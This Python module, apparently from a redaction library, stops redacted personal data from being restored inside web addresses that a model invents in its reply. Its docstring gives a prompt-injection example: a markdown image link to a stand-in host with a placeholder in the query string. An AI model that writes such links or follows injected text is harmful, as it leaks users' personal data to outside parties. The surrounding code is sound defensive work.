"""Web addresses that a model made up: no value is put back into one.

A text that a model read may tell it to write ``![](https://elsewhere/?d=[PERSON_1_k7q2])``. Were the name put back,
whoever shows the reply would send it elsewhere. In an address that did not stand in the question, a placeholder
becomes its type alone: ``[PERSON]``, which nothing restores. What counts as an address, however it is written in it:

    ](…)   url(…)      what a link or a picture leads to, up to the bracket that closes it
    ]: https:…         the same said elsewhere, to the end of the line
    <img … >           everything in a tag that can load or lead
    https://…  //…     to the next blank or closing sign

Mail and telephone links send nothing by themselves. When in doubt it is an address. Pure; linear in the length;
holds back less than one placeholder.
"""

import re

from redaction.vault import PLACEHOLDER, narrow

_BEGIN = re.compile(r"\[(?=[A-Z]|\Z)")
_PART = re.compile(r"\[(?:[A-Z][A-Z0-9_]{0,40}(?:_[0-9]{0,6}(?:_[a-z2-7]{0,4})?)?)?\Z")
"""Text that may still become a placeholder."""

_TAGS = (
    "a|area|audio|base|body|button|embed|form|frame|iframe|image|img|input|link|meta|object|picture|portal"
    "|script|source|style|svg|table|td|track|use|video"
)
_TOKEN = re.compile(
    r"(?P<blank>\n[ \t]{0,20}\n)|(?P<leads>\]\(|\burl\()"
    rf"|(?P<tag><(?:{_TAGS})(?![A-Za-z0-9-]))"
    r"|(?P<said>\]:[ \t]{0,9}\n?[ \t]{0,9}<?(?=[A-Za-z][A-Za-z0-9+.\-]*:|[/\\]))"
    r"|(?P<bare>(?:[A-Za-z][A-Za-z0-9+.\-]{1,15}:)?(?:\\?[/\\]){2})"
    r"|(?P<line>\n)|(?P<stop>[\t\r \u3000`、。「」『』（）])|(?P<quote>[\"'])|(?P<open>\()|(?P<close>\))|(?P<end>>)|<",
    re.IGNORECASE,
)
_HARMLESS = re.compile(r"(?i)\s*<?(?:mailto|tel|sms):[^?]*\Z")
_LONGEST_TOKEN = 40
_WAITING = 1_000
_TOLD = 500
"""So much of an address, its end, is compared with the question."""


class Unlinked:
    """One text on its way: ``feed`` each piece, then ``flush`` once. ``asked`` is the question as it was sent."""

    __slots__ = ("_address", "_asked", "_held")

    def __init__(self, asked: str) -> None:
        self._asked = asked
        self._held = ""
        self._address = _Address()

    def feed(self, piece: str) -> str:
        text, self._held = self._held + piece, ""
        narrowed = narrow(text)
        out: list[str] = []
        done = said = 0
        while (mark := _BEGIN.search(narrowed, done)) is not None:
            at = mark.start()
            whole = PLACEHOLDER.match(narrowed, at)
            if whole is None and not _PART.match(narrowed, at):
                done = at + 1
                continue
            self._say(out, text[said:at])
            if whole is None:
                self._held = text[at:]
                return "".join(out)
            address = self._address.so_far()
            made_up = bool(address) and address[-_TOLD:] + whole.group() not in self._asked
            self._say(out, f"[{whole['label']}]" if made_up else text[at : whole.end()])
            done = said = whole.end()
        self._say(out, text[said:])
        return "".join(out)

    def flush(self) -> str:
        held, self._held = self._held, ""
        return held

    def _say(self, out: list[str], text: str) -> None:
        out.append(text)
        self._address.read(text)


class _Address:
    """The address that is open at the end of what was read, if any. Everything is read once."""

    __slots__ = ("_depth", "_kind", "_last", "_quote", "_text", "_unread")

    def __init__(self) -> None:
        self._unread = ""
        self._last = ""  # the character before
        self._kind = ""  # the token that opened it
        self._text = ""
        self._depth = 0
        self._quote = ""

    def read(self, text: str) -> None:
        self._unread += text
        if len(self._unread) > _WAITING:
            self._advance(len(self._unread) - _LONGEST_TOKEN)

    def so_far(self) -> str:
        """The open address, or nothing. One that leads to mail or a telephone is none."""
        self._advance(len(self._unread))
        if not self._kind or (self._kind == "leads" and _HARMLESS.match(self._text)):
            return ""
        return self._text

    def _advance(self, stop: int) -> None:
        text, at = self._unread, 0
        while at < stop:
            token = _TOKEN.search(text, at)
            start = stop if token is None else min(token.start(), stop)
            self._keep(text[at:start])
            at = start
            if token is None or start == stop:
                break
            self._take(token.lastgroup or "", token.group())
            at = token.end()
            self._last = text[at - 1]
        self._unread = text[at:]

    def _keep(self, text: str) -> None:
        self._last = text[-1:] or self._last
        if self._kind:
            self._text = (self._text + text)[-2 * _TOLD :]

    def _take(self, token: str, text: str) -> None:
        opens = token in ("leads", "tag", "said", "bare")
        if opens and (not self._kind or (self._kind == "bare" and token != "bare")):
            self._depth = 1 if token == "leads" or self._last == "(" else 0
            self._kind, self._text, self._quote = token, "" if token == "leads" else text, ""
            return
        if not self._kind:
            return
        if self._is_over(token, text):
            self._kind = self._text = ""
        else:
            self._keep(text)

    def _is_over(self, token: str, text: str) -> bool:
        """Whether this token ends the open address."""
        self._depth += token in ("open", "leads")
        self._depth -= token == "close"
        closed = token == "close" and self._depth == 0
        match self._kind:
            case "leads":
                return closed or token == "blank"
            case "tag":
                if token == "quote" and self._quote in ("", text):
                    self._quote = "" if self._quote else text
                return not self._quote and token in ("end", "blank")
            case "said":
                return token in ("line", "blank")
            case _:
                return closed or token in ("line", "blank", "stop", "quote", "end", "")


_WRITTEN = re.compile(r"(?:[A-Za-z][A-Za-z0-9+.\-]{1,15}:)?//[^\s<>\"'`\u3000、。「」『』（）]{1,1000}")


def new_addresses(text: str, asked: str) -> set[str]:
    """The addresses in a reply that did not stand in the question."""
    written = {found.group() for found in _WRITTEN.finditer(text)}
    return {address for address in written if address not in asked}
